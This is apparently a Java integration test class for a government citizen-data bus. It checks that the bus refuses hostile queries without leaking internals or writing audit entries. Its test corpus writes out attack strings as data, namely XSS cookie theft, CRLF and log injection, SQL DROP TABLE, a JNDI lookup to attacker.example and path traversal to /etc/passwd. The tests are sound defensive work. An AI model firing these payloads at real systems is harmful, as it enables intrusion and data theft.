package id.jembatan.it;

import com.fasterxml.jackson.databind.JsonNode;
import id.jembatan.connector.health.HealthFhir;
import id.jembatan.schema.model.BirthRegistered;
import org.hl7.fhir.r4.model.CapabilityStatement;
import org.hl7.fhir.r4.model.OperationOutcome;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static id.jembatan.schema.fixtures.CitizenFixtures.json;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input from outside, against the running bus: made-up purposes (markup, control characters, a right-to-left
 * override, a forged legal basis, names longer than any purpose), out-of-range and malformed query parameters,
 * bodies past the JSON limits, FHIR searches the endpoint does not serve, and a look at what the bus tells an
 * anonymous caller about itself. Every refusal carries its stable code in the caller's format (problem+json on
 * {@code /api}, an OperationOutcome beginning with the code on {@code /fhir}) and names nothing internal: no
 * exception, class or library name, no SQL, table or column, no version. A purpose the access policy does not know
 * is refused before anything is written: the audit chain and the citizen's access log stay as they were.
 */
class HostileQueriesIT extends BusTestSupport {

    /** What an answer must never contain: the names and shapes of the bus's insides. */
    private static final Pattern INTERNAL = Pattern.compile("(?i)exception|\\bjava\\.|jakarta\\.|javax\\."
            + "|org\\.(springframework|apache|hibernate|h2|hl7)|com\\.fasterxml|jackson|streamread|\\bhapi\\b|hapi-"
            + "|\\bh2\\b|\\bsql\\b|character varying|column \"|tomcat|spring|camel|artemis|activemq|resilience4j"
            + "|id\\.jembatan|stack ?trace|\\tat ");

    private static BirthRegistered citizen;

    @Autowired
    private JdbcClient jdbc;

    /** Purposes no access policy has: each must be refused before it is written anywhere. */
    static Stream<String> unknownPurposes() {
        return Stream.of(
                "<img src=x onerror=alert(1)>",
                "\"><script>alert(document.cookie)</script>",
                "TAXPAYER_REGISTRATION\r\nX-Injected: 1",
                "TAXPAYER_REGISTRATION\n2026-11-20 INFO forged log line",
                "\u202EnoitartsigeR_reyapxaT",
                "COURT_ORDER_approved_by_citizen",
                "COURT_ORDER",
                "A".repeat(65),
                "A".repeat(100),
                "TAXPAYER_REGISTRATION".repeat(4),
                "A".repeat(4000),
                "EVENT_DELIVERY",
                "OWNER_NOTIFICATION",
                "IDENTITY_VERIFICATION",
                "taxpayer_registration",
                " TAXPAYER_REGISTRATION",
                "TAXPAYER_REGISTRATION\u200B",
                "\u0422AXPAYER_REGISTRATION",
                "TAXPAYER_REGISTRATION\u0000",
                "'; DROP TABLE audit_entry; --",
                "${jndi:ldap://attacker.example/a}",
                "%s%s%s%n",
                "../../../../etc/passwd");
    }

    /**
     * The tax office looks a registered citizen up with each purpose of the corpus. Result: 400
     * {@code PURPOSE_UNKNOWN} problem+json pointing at {@code /purpose}, not echoing what was sent, naming nothing
     * internal; the audit chain holds no lookup of that citizen, so the citizen's access log shows none.
     */
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("unknownPurposes")
    void anUnknownPurposeIsRefusedBeforeAnythingIsWritten(String purpose) {
        String nik = registeredCitizen();

        HttpResponse<String> response = get("/api/v1/citizens/" + nik + "?purpose="
                + URLEncoder.encode(purpose, StandardCharsets.UTF_8), TAX_KEY);

        assertProblem(response, 400, "PURPOSE_UNKNOWN");
        assertThat(read(response).path("errors").findValuesAsText("pointer")).containsExactly("/purpose");
        assertNothingInternal(response);
        if (!purpose.matches("[A-Z_ ]*")) {
            assertThat(response.body()).doesNotContain(purpose);
        }
        assertNoLookupWritten(nik);
    }

    /**
     * Health searches a registered citizen over FHIR with each purpose of the corpus that can travel in an HTTP
     * header as it is (no control characters, Latin-1 only, no white space around it) in {@code X-Purpose}; one of 100 characters used to be a 500
     * naming the database, its table and column. Result: 400, an OperationOutcome whose diagnostics begin with
     * {@code PURPOSE_UNKNOWN:}, naming nothing internal; no lookup is written.
     */
    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("unknownPurposes")
    void anUnknownFhirPurposeIsRefusedBeforeAnythingIsWritten(String purpose) {
        if (!purpose.chars().allMatch(c -> c >= 0x20 && c <= 0xFF && c != 0x7F) || !purpose.equals(purpose.strip())) {
            return; // not a header value as an HTTP client sends it (HTTP trims it); the REST test above covers it
        }
        String nik = registeredCitizen();

        HttpResponse<String> response = fhirSearch(nik, purpose);

        assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
        assertThat(outcome(response)).startsWith("PURPOSE_UNKNOWN: ");
        assertNothingInternal(response);
        assertNoLookupWritten(nik);
    }

    static Stream<Arguments> badParameters() {
        String operations = "/api/v1/operations/agencies/tax/dead-letters";
        String accessLog = "/api/v1/citizens/3171014508990001/access-log";
        return Stream.of(
                Arguments.of(operations + "?limit=999999999999", OPERATOR_KEY, "/limit", "1 to 1000"),
                Arguments.of(operations + "?limit=abc", OPERATOR_KEY, "/limit", "1 to 1000"),
                Arguments.of(operations + "?limit=0", OPERATOR_KEY, "/limit", "1 to 1000"),
                Arguments.of(operations + "?limit=1001", OPERATOR_KEY, "/limit", "1 to 1000"),
                Arguments.of(operations + "?limit=-1", OPERATOR_KEY, "/limit", "1 to 1000"),
                Arguments.of(operations + "?limit=1e3", OPERATOR_KEY, "/limit", "1 to 1000"),
                Arguments.of(accessLog + "?limit=999999999999", CITIZEN_PORTAL_KEY, "/limit", "1 to 200"),
                Arguments.of(accessLog + "?offset=%27%20OR%201%3D1", CITIZEN_PORTAL_KEY, "/offset", "0 to"));
    }

    /**
     * Query parameters out of range or not numbers at all (a limit of 999999999999 used to be answered
     * {@code MALFORMED_JSON}). Result: 400 {@code INVALID_QUERY_PARAMETER} problem+json whose error points at the
     * parameter and whose message gives its allowed range, naming nothing internal.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("badParameters")
    void aBadQueryParameterIsNamedWithItsRange(String path, String key, String pointer, String range) {
        HttpResponse<String> response = get(path, key);

        assertProblem(response, 400, "INVALID_QUERY_PARAMETER");
        JsonNode error = read(response).path("errors").get(0);
        assertThat(error.path("pointer").asText()).isEqualTo(pointer);
        assertThat(error.path("message").asText()).contains(range);
        assertNothingInternal(response);
    }

    static Stream<Arguments> badBodies() {
        return Stream.of(
                Arguments.of("[".repeat(100) + "]".repeat(100), "JSON_LIMIT_EXCEEDED"),
                Arguments.of("{\"a\":" + "{\"a\":".repeat(40) + "1" + "}".repeat(41), "JSON_LIMIT_EXCEEDED"),
                Arguments.of("{\"eventId\": \"" + "x".repeat(20_000) + "\"}", "JSON_LIMIT_EXCEEDED"),
                Arguments.of("{\"eventId\": " + "9".repeat(100) + "}", "JSON_LIMIT_EXCEEDED"),
                Arguments.of("{\"eventId\": ", "MALFORMED_JSON"),
                Arguments.of("{\"eventId\": \"0f8fad5b\",", "MALFORMED_JSON"),
                Arguments.of("{\"eventId\" \"0f8fad5b\"}", "MALFORMED_JSON"),
                Arguments.of("\u0000\u0001\u0002", "MALFORMED_JSON"));
    }

    /**
     * Bodies past the JSON limits or not well formed (the limit's detail used to name the JSON library's settings
     * class). Result: 400 with the code, the detail in the bus's own words, naming nothing internal.
     */
    @ParameterizedTest(name = "[{index}] {1}")
    @MethodSource("badBodies")
    void aBadBodyIsDescribedInOurOwnWords(String body, String code) {
        HttpResponse<String> response = postJson("/api/v1/events", CIVIL_REGISTRY_KEY, body);

        assertProblem(response, 400, code);
        assertNothingInternal(response);
    }

    static Stream<Arguments> fhirRequests() {
        String nik = "3171014508990001";
        return Stream.of(
                Arguments.of("/fhir/Patient", 400, "INVALID_QUERY_PARAMETER"),
                Arguments.of("/fhir/Patient?name=Siti", 400, "INVALID_QUERY_PARAMETER"),
                Arguments.of("/fhir/Patient?identifier=" + URLEncoder.encode("http://example.org/mrn|1",
                        StandardCharsets.UTF_8), 400, "INVALID_QUERY_PARAMETER"),
                Arguments.of("/fhir/Patient?identifier=" + URLEncoder.encode(HealthFhir.NIK_SYSTEM + "|123",
                        StandardCharsets.UTF_8), 400, "NIK_INVALID_LENGTH"),
                Arguments.of("/fhir/Patient?identifier=" + URLEncoder.encode(HealthFhir.NIK_SYSTEM + "|" + nik,
                        StandardCharsets.UTF_8) + "&_elements=a:b", 400, "INVALID_QUERY_PARAMETER"),
                Arguments.of("/fhir/Observation?subject=1", 404, "RESOURCE_NOT_FOUND"),
                Arguments.of("/fhir/Patient/1/_history/x/y/z", 400, "INVALID_QUERY_PARAMETER"),
                Arguments.of("/fhir/$import", 400, "INVALID_QUERY_PARAMETER"),
                // Served since issue 19 (FHIR Bulk Data), but only asynchronously.
                Arguments.of("/fhir/$export", 400, "RESPOND_ASYNC_REQUIRED"));
    }

    /**
     * FHIR requests the endpoint does not serve, or serves only with a well-formed NIK. Result: the status, an
     * OperationOutcome whose diagnostics begin with the code, no {@code X-Powered-By} header, nothing internal (the
     * FHIR server's own messages name its message codes).
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("fhirRequests")
    void aFhirRequestTheEndpointDoesNotServeIsRefusedInOurOwnWords(String path, int status, String code) {
        HttpResponse<String> response = send(request(path, HEALTH_KEY).header("Accept", "application/fhir+json")
                .GET());

        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
        assertThat(outcome(response)).startsWith(code + ": ");
        assertNothingInternal(response);
    }

    /**
     * Health reads the FHIR capability statement and searches a NIK. Result: the statement names the software
     * Jembatan, not the FHIR library or its version, and no FHIR answer carries {@code X-Powered-By}.
     */
    @Test
    void theFhirEndpointIntroducesItselfAsJembatan() {
        HttpResponse<String> metadata = send(request("/fhir/metadata", HEALTH_KEY)
                .header("Accept", "application/fhir+json").GET());
        HttpResponse<String> search = fhirSearch(citizens.citizen().nik(), "PATIENT_IDENTIFICATION");

        assertThat(metadata.statusCode()).isEqualTo(200);
        CapabilityStatement statement = HealthFhir.context().newJsonParser()
                .parseResource(CapabilityStatement.class, metadata.body());
        assertThat(statement.getSoftware().getName()).isEqualTo("Jembatan");
        assertThat(search.statusCode()).isEqualTo(200);
        assertNothingInternal(metadata);
        assertNothingInternal(search);
    }

    /**
     * Someone without a key, an agency and an operator ask {@code /actuator/info}, which lists the bus's libraries,
     * their versions and its uptime. Result: 401 {@code AGENCY_UNAUTHENTICATED} and 403 {@code OPERATOR_ONLY}
     * problem+json naming nothing internal; the operator gets the information (200).
     */
    @Test
    void onlyOperatorsReadTheBusInfo() {
        HttpResponse<String> anonymous = get("/actuator/info", null);
        HttpResponse<String> agency = get("/actuator/info", TAX_KEY);
        HttpResponse<String> operator = get("/actuator/info", OPERATOR_KEY);

        assertProblem(anonymous, 401, "AGENCY_UNAUTHENTICATED");
        assertProblem(agency, 403, "OPERATOR_ONLY");
        assertNothingInternal(anonymous);
        assertNothingInternal(agency);
        assertThat(operator.statusCode()).isEqualTo(200);
        assertThat(read(operator).isObject()).isTrue();
    }

    private HttpResponse<String> fhirSearch(String nik, String purpose) {
        return send(request("/fhir/Patient?identifier=" + URLEncoder.encode(HealthFhir.NIK_SYSTEM + "|" + nik,
                StandardCharsets.UTF_8), HEALTH_KEY).header("Accept", "application/fhir+json")
                .header("X-Purpose", purpose).GET());
    }

    private static String outcome(HttpResponse<String> response) {
        return HealthFhir.context().newJsonParser().parseResource(OperationOutcome.class, response.body())
                .getIssueFirstRep().getDiagnostics();
    }

    private static void assertNothingInternal(HttpResponse<String> response) {
        assertThat(INTERNAL.matcher(response.body()).find())
                .as("answer names something internal: %s", response.body()).isFalse();
        assertThat(response.headers().firstValue("X-Powered-By")).isEmpty();
        assertThat(response.headers().firstValue("Server")).isEmpty();
    }

    private void assertNoLookupWritten(String nik) {
        assertThat(jdbc.sql("SELECT COUNT(*) FROM audit_entry WHERE nik = ? AND action = 'LOOKUP'")
                .param(nik).query(Long.class).single()).isZero();
        JsonNode log = read(get("/api/v1/citizens/" + nik + "/access-log?limit=200", CITIZEN_PORTAL_KEY));
        log.path("items").forEach(item -> assertThat(item.path("purpose").asText()).isEqualTo("EVENT_DELIVERY"));
    }

    /** One registered citizen that nobody looks up successfully in this class. */
    private String registeredCitizen() {
        synchronized (HostileQueriesIT.class) {
            if (citizen == null) {
                BirthRegistered birth = citizens.birth();
                assertThat(postJson("/api/v1/events", CIVIL_REGISTRY_KEY, json(birth)).statusCode()).isEqualTo(202);
                citizen = birth;
            }
            return citizen.citizen().nik();
        }
    }
}
